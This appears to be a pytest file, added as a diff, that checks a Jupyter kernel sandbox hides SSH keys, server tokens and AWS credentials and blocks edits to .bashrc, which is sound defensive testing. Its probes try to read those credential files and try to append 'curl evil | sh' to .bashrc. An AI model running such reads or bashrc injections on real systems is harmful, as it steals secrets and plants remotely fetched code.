@@ -1,0 +1,383 @@
+"""A workspace that is a home directory: the kernel works on the user's notebooks and
+sees none of their secrets (Jupyter's runtime files with the server's token, the
+gateway's signing secret, ~/.ssh, shell start-up files), against each backend.
+
+Every secret is world-readable and every dotfile world-writable here, so only the
+sandbox's masks stand between the kernel and them.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import textwrap
+from collections.abc import AsyncIterator, Iterator
+from dataclasses import dataclass
+
+import pytest
+import pytest_asyncio
+from jupyter_client import AsyncKernelManager
+from kernelrun import run_code
+from traitlets.config import Config
+
+pytestmark = [pytest.mark.asyncio, pytest.mark.xdist_group("sandbox")]
+
+SECRET = "secret-" + os.urandom(6).hex()
+BASHRC = "# the user's own .bashrc\n"
+
+
+@dataclass
+class Home:
+    path: str
+    secrets: dict[str, str]  # path -> content no kernel may read
+    bashrc: str
+    notebook: str
+
+
+def make_home(path: str) -> Home:
+    """A home directory as a Jupyter user has it."""
+
+    def put(rel: str, content: str, mode: int = 0o644) -> str:
+        full = os.path.join(path, rel)
+        os.makedirs(os.path.dirname(full), exist_ok=True)
+        with open(full, "w", encoding="utf-8") as f:
+            f.write(content)
+        os.chmod(full, mode)
+        return full
+
+    secrets = {
+        put(".ssh/id_rsa", f"-----BEGIN KEY----- {SECRET}-ssh\n"): f"{SECRET}-ssh",
+        put(
+            ".local/share/jupyter/runtime/jpserver-4242.json",
+            json.dumps({"token": f"{SECRET}-token", "port": 8888}),
+        ): f"{SECRET}-token",
+        put(".local/share/jupyter/aiide/jwt_secret", f"{SECRET}-jwt"): f"{SECRET}-jwt",
+        put(".jupyter/jupyter_server_config.py", f"c.X.y = '{SECRET}-config'"): f"{SECRET}-config",
+        put(".aws/credentials", f"aws_secret_access_key = {SECRET}-aws"): f"{SECRET}-aws",
+    }
+    bashrc = put(".bashrc", BASHRC, 0o666)
+    notebook = put("analysis.ipynb", '{"cells": []}', 0o666)
+    for d in (".ssh", ".local", ".local/share", ".local/share/jupyter", ".jupyter", ".aws"):
+        os.chmod(os.path.join(path, d), 0o755)
+    os.chmod(os.path.join(path, ".local/share/jupyter/runtime"), 0o755)
+    os.chmod(os.path.join(path, ".local/share/jupyter/aiide"), 0o755)
+    return Home(path, secrets, bashrc, notebook)
+
+
+def point_jupyter_at(monkeypatch: pytest.MonkeyPatch, home: str) -> None:
+    monkeypatch.setenv("HOME", home)
+    for var in (
+        "JUPYTER_CONFIG_DIR",
+        "JUPYTER_DATA_DIR",
+        "JUPYTER_RUNTIME_DIR",
+        "XDG_DATA_HOME",
+        "XDG_CONFIG_HOME",
+        "XDG_RUNTIME_DIR",
+    ):
+        monkeypatch.delenv(var, raising=False)
+
+
+@pytest.fixture
+def home(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Home:
+    path = str(tmp_path_factory.mktemp("home"))
+    os.chmod(path, 0o755)
+    point_jupyter_at(monkeypatch, path)
+    return make_home(path)
+
+
+def home_config(backend: str, home: Home) -> Config:
+    c = Config()
+    c.SandboxPolicy.backend = backend
+    c.SandboxPolicy.workspace_root = home.path  # the server was started in ~
+    c.SandboxPolicy.memory_limit = "512M"
+    c.SandboxPolicy.tmp_size = "64M"
+    return c
+
+
+@pytest_asyncio.fixture
+async def home_km(backend: str, home: Home) -> AsyncIterator[AsyncKernelManager]:
+    km = AsyncKernelManager(kernel_name="aiide-python", config=home_config(backend, home))
+    await km.start_kernel(cwd=home.path)
+    try:
+        yield km
+    finally:
+        if km.has_kernel:
+            await km.shutdown_kernel(now=True)
+
+
+READ_ALL = """
+import json
+out = {}
+for p in %r:
+    try:
+        with open(p) as f:
+            out[p] = f.read()
+    except OSError as e:
+        out[p] = 'blocked ' + type(e).__name__
+print(json.dumps(out))
+"""
+
+
+async def test_home_workspace_hides_ssh_keys_and_jupyters_files(
+    home_km: AsyncKernelManager, home: Home
+) -> None:
+    r = await run_code(home_km, READ_ALL % (list(home.secrets),))
+    assert r.status == "ok", r
+    seen = json.loads(r.stdout)
+    for path, secret in home.secrets.items():
+        assert secret not in seen[path], f"the kernel read {path}"
+    assert SECRET not in r.stdout
+
+
+async def test_home_workspace_dotfiles_cannot_be_changed(
+    home_km: AsyncKernelManager, home: Home
+) -> None:
+    code = f"""
+    import os
+    for attempt in ('append', 'replace', 'remove'):
+        try:
+            if attempt == 'append':
+                with open({home.bashrc!r}, 'a') as f:
+                    f.write('curl evil | sh\\n')
+            elif attempt == 'replace':
+                with open({home.bashrc!r} + '.new', 'w') as f:
+                    f.write('curl evil | sh\\n')
+                os.replace({home.bashrc!r} + '.new', {home.bashrc!r})
+            else:
+                os.unlink({home.bashrc!r})
+            print(attempt, 'done')
+        except OSError as e:
+            print(attempt, 'blocked', type(e).__name__)
+    """
+    r = await run_code(home_km, textwrap.dedent(code))
+    assert r.status == "ok", r
+    assert "done" not in r.stdout, r.stdout
+    with open(home.bashrc, encoding="utf-8") as f:
+        assert f.read() == BASHRC
+
+
+async def test_home_workspace_notebooks_are_readable_and_writable(
+    home_km: AsyncKernelManager, home: Home
+) -> None:
+    code = f"""
+    print(open({home.notebook!r}).read())
+    with open({home.notebook!r}, 'w') as f:
+        f.write('{{"cells": [1]}}')
+    with open('results.csv', 'w') as f:
+        f.write('a,b\\n1,2\\n')
+    """
+    r = await run_code(home_km, textwrap.dedent(code))
+    assert r.status == "ok", r
+    assert r.stdout.strip() == '{"cells": []}'
+    with open(home.notebook, encoding="utf-8") as f:
+        assert f.read() == '{"cells": [1]}'
+    with open(os.path.join(home.path, "results.csv"), encoding="utf-8") as f:
+        assert f.read() == "a,b\n1,2\n"
+
+
+async def test_masked_paths_hide_a_configured_path_and_unmasked_entries_show(
+    backend: str, home: Home
+) -> None:
+    private = os.path.join(home.path, "private")
+    os.mkdir(private, 0o755)
+    with open(os.path.join(private, "notes.txt"), "w") as f:
+        f.write(f"{SECRET}-private")
+    os.chmod(os.path.join(private, "notes.txt"), 0o644)
+    cache = os.path.join(home.path, ".cache")
+    os.mkdir(cache, 0o755)
+    with open(os.path.join(cache, "model.bin"), "w") as f:
+        f.write("weights")
+    os.chmod(os.path.join(cache, "model.bin"), 0o644)
+    c = home_config(backend, home)
+    c.SandboxPolicy.masked_paths = [private]
+    c.SandboxPolicy.unmasked_home_entries = [".cache"]
+    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
+    await km.start_kernel(cwd=home.path)
+    try:
+        paths = [os.path.join(private, "notes.txt"), os.path.join(cache, "model.bin")]
+        r = await run_code(km, READ_ALL % (paths,))
+        assert r.status == "ok", r
+        seen = json.loads(r.stdout)
+        assert SECRET not in seen[paths[0]]
+        assert seen[paths[1]] == "weights"
+    finally:
+        await km.shutdown_kernel(now=True)
+
+
+async def test_a_workspace_inside_jupyters_runtime_dir_is_refused(
+    backend: str, home: Home
+) -> None:
+    runtime = os.path.join(home.path, ".local/share/jupyter/runtime")
+    km = AsyncKernelManager(kernel_name="aiide-python", config=home_config(backend, home))
+    with pytest.raises(RuntimeError, match="never shown to sandboxed kernels"):
+        await km.start_kernel(cwd=runtime)
+    assert not km.has_kernel
+
+
+async def test_a_pooled_kernel_gets_the_same_sandbox_as_a_cold_start(
+    backend: str, home: Home
+) -> None:
+    """The warm pool starts kernels through the same recipe: masks and the no-network
+    %pip message included (the pool used to assemble launches on its own)."""
+    from aiide_kernel.pool import KernelPool
+    from aiide_kernel.policy import SandboxPolicy
+    from aiide_kernel.provisioner import SandboxProvisioner
+    from aiide_kernel.rundir import sandbox_identity
+
+    c = home_config(backend, home)
+    c.KernelPool.size = 1
+    KernelPool.clear_instance()
+    pool = KernelPool.instance(config=c)
+    try:
+        policy = SandboxPolicy(config=c)
+        uid, gid = sandbox_identity(SandboxProvisioner(config=c).sandbox_uid)
+        argv = [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"]
+        key = pool.prewarm(argv, policy, home.path, uid, gid)
+        await pool.wait_filled(key, timeout=90)
+        pooled_pid = pool._ready[key][0].kernel.pid
+        km = AsyncKernelManager(kernel_name="aiide-python", config=c)
+        await km.start_kernel(cwd=home.path)
+        try:
+            if backend == "bwrap":
+                assert km.provisioner.pid == pooled_pid  # it came from the pool
+            r = await run_code(km, READ_ALL % (list(home.secrets),))
+            assert SECRET not in r.stdout, r.stdout
+            r = await run_code(km, "%pip install nothing-at-all")
+            assert "without network access" in r.stdout, r
+        finally:
+            await km.shutdown_kernel(now=True)
+    finally:
+        await pool.shutdown()
+        KernelPool.clear_instance()
+
+
+# -- an ordinary user --------------------------------------------------------------------
+
+ORDINARY_USER_SCRIPT = """
+import asyncio, json, os, sys
+from jupyter_client import AsyncKernelManager
+from traitlets.config import Config
+
+async def main():
+    c = Config()
+    c.SandboxPolicy.backend = "bwrap"
+    c.SandboxPolicy.workspace_root = os.environ["HOME"]
+    c.SandboxPolicy.allow_unlimited = True  # no cgroup of its own for this user
+    c.SandboxPolicy.extra_ro_mounts = [os.environ["AIIDE_TEST_SITE"]]  # the .pth's packages
+    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
+    await km.start_kernel(cwd=os.environ["HOME"])
+    kc = km.client()
+    kc.start_channels()
+    out = []
+    try:
+        await kc.wait_for_ready(timeout=60)
+        def hook(msg):
+            if msg["header"]["msg_type"] == "stream":
+                out.append(msg["content"]["text"])
+        await kc.execute_interactive(sys.argv[1], timeout=60, output_hook=hook)
+    finally:
+        kc.stop_channels()
+        await km.shutdown_kernel(now=True)
+    print("KERNEL:" + "".join(out))
+
+asyncio.run(main())
+"""
+
+
+@pytest.fixture
+def ordinary_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Home]:
+    """A home owned by an ordinary uid, reachable by it (not under root's pytest tmp)."""
+    path = tempfile.mkdtemp(prefix="aiide-home-", dir="/tmp")
+    try:
+        home = make_home(path)
+        for root, dirs, files in os.walk(path):
+            for name in [*dirs, *files]:
+                os.chown(os.path.join(root, name), 65534, 65534)
+        os.chown(path, 65534, 65534)
+        os.chmod(path, 0o755)
+        yield home
+    finally:
+        shutil.rmtree(path, ignore_errors=True)
+
+
+@pytest.fixture
+def ordinary_python() -> Iterator[str]:
+    """A Python the ordinary uid can run with this environment's packages (the test
+    environment's own interpreter may live under /root, which that uid cannot reach)."""
+    system = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
+    if not os.path.exists(system):
+        pytest.skip(f"needs {system} for an environment an ordinary uid can use")
+    path = tempfile.mkdtemp(prefix="aiide-py-", dir="/tmp")
+    try:
+        subprocess.run([system, "-m", "venv", "--without-pip", path], check=True, timeout=60)
+        site_dir = next(p for p in sys.path if p.endswith("site-packages"))
+        version = f"python{sys.version_info.major}.{sys.version_info.minor}"
+        with open(os.path.join(path, "lib", version, "site-packages", "aiide.pth"), "w") as f:
+            f.write(f"import site; site.addsitedir({site_dir!r})\n")
+        for root, dirs, _ in os.walk(path):
+            for d in dirs:
+                os.chmod(os.path.join(root, d), 0o755)
+        os.chmod(path, 0o755)
+        yield os.path.join(path, "bin", "python")
+    finally:
+        shutil.rmtree(path, ignore_errors=True)
+
+
+@pytest.mark.filterwarnings("ignore::pytest.PytestWarning")
+def test_an_ordinary_user_with_a_home_workspace_gets_the_same_masks(
+    ordinary_home: Home, ordinary_python: str
+) -> None:
+    """The server as an ordinary user (uid 65534), started in its own home, bwrap."""
+    if os.geteuid() != 0:
+        pytest.skip("the other tests of this file already run as an ordinary user")
+    if not shutil.which("setpriv") or not shutil.which("bwrap"):
+        pytest.skip("needs setpriv and bwrap")
+    home = ordinary_home
+    code = textwrap.dedent(
+        READ_ALL % (list(home.secrets),)
+        + f"""
+try:
+    open({home.bashrc!r}, 'a').write('curl evil | sh')
+    print('APPEND done')
+except OSError as e:
+    print('APPEND blocked', type(e).__name__)
+open({home.notebook!r}, 'w').write('{{"cells": [2]}}')
+"""
+    )
+    env = {
+        "HOME": home.path,
+        "PATH": os.path.dirname(ordinary_python) + ":/usr/bin:/bin",
+        "LANG": "C.UTF-8",
+        "JUPYTER_PATH": os.path.join(sys.prefix, "share", "jupyter"),  # the kernelspec
+        "AIIDE_TEST_SITE": next(p for p in sys.path if p.endswith("site-packages")),
+    }
+    r = subprocess.run(
+        [
+            "setpriv",
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            "--",
+            ordinary_python,
+            "-c",
+            ORDINARY_USER_SCRIPT,
+            code,
+        ],
+        env=env,
+        cwd=home.path,
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    assert r.returncode == 0, r.stderr[-3000:]
+    kernel_out = r.stdout.split("KERNEL:", 1)[1]
+    assert SECRET not in kernel_out, kernel_out
+    assert "APPEND blocked" in kernel_out, kernel_out
+    with open(home.bashrc, encoding="utf-8") as f:
+        assert f.read() == BASHRC
+    with open(home.notebook, encoding="utf-8") as f:
+        assert f.read() == '{"cells": [2]}'
